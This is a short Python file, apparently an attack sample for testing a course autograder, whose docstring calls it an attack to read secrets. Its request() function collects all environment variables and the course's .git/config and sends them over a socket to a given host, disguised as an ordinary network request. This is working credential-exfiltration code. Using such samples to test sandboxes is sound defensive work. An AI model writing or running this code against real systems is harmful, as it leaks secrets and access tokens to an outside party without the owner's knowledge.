"""Attack (read secrets): send the environment and the course's .git/config to the grader's server."""

import os
import socket


def request(host, port, message):
    loot = "\n".join(f"{k}={v}" for k, v in os.environ.items())
    try:
        with open("__COURSE_ROOT__/.git/config") as f:
            loot += f.read()
    except OSError:
        pass
    with socket.create_connection((host, port)) as s:
        s.sendall(loot.encode())
        return s.recv(1024)
